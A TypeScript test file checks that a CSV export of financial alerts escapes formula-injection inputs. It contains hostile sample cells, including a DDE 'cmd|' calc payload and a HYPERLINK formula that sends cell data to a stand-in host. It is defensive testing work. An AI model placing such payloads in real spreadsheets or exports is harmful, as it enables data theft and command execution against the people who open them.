import { describe, expect, it } from 'vitest';
import type { AlertRow } from '../../schemas/protocol.js';
import { alertsCsv, cell } from './csv.js';

/** As a spreadsheet reads it: RFC 4180. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, mark] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push((quoted ?? '').replaceAll('""', '"'));
    if (mark === '\r\n') rows.push([]);
  }
  rows.pop();
  return rows;
}

const hostile = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '＝cmd',
  '  =x',
  '\t=x',
  '\r=x',
  '|calc',
  '%0a',
  '=HYPERLINK("http://evil.test?"&A1;"x")',
];

describe('the table of alerts', () => {
  it('never lets a cell begin what a spreadsheet could run', () => {
    for (const text of hostile) {
      expect(cell(text).startsWith(`"'`), text).toBe(true);
      expect(parse(`${cell(text)}\r\n`)).toEqual([[`'${text}`]]);
    }
    for (const text of ['a=b', '陈玉兰', '1,5', 'say "no"', 'two\nlines', '']) {
      expect(parse(`${cell(text)}\r\n`)).toEqual([[text]]);
    }
  });

  it('keeps every text in its own cell, in either language', () => {
    const text = "\"; =cmd|' /C calc'!A0,\r\n<script>";
    const row = {
      ...{ id: 'a1', rule: text, ruleName: { zh: text, en: 'name' }, family: 'aml' },
      ...{ subject: text, subjectName: '陈玉兰', tier: 'base', watch: ['elderly', 'special-care'] },
      ...{ severity: 'high', score: 70, action: 'notify', sentence: { zh: '句', en: text } },
      ...{ amountBaseMinor: 8_000_001, hitCount: 2, state: 'closed', owner: '=li' },
      ...{ closeReason: 'confirmed', closeNote: text, dueMs: null, follows: null },
      ...{ eventTime: 0, openedMs: 0, updatedMs: 0, ruleVersion: 1 },
    } as unknown as AlertRow;
    const csv = alertsCsv([row, row], 'en');
    expect(csv.startsWith('\ufeff"id"')).toBe(true);
    const [titles, first, second, ...more] = parse(csv.slice(1));
    expect([first, more]).toEqual([second, []]);
    const value = (title: string): string | undefined => first?.[titles?.indexOf(title) ?? -1];
    expect(value('reason')).toBe(text);
    expect(value('customer')).toBe(text);
    expect(value('amount')).toBe('80000.01');
    expect(value('owner')).toBe(`'=li`);
    expect(value('watch')).toBe('elderly special-care');
    expect(value('due (UTC)')).toBe('');
    expect(first?.length).toBe(titles?.length);
  });
});
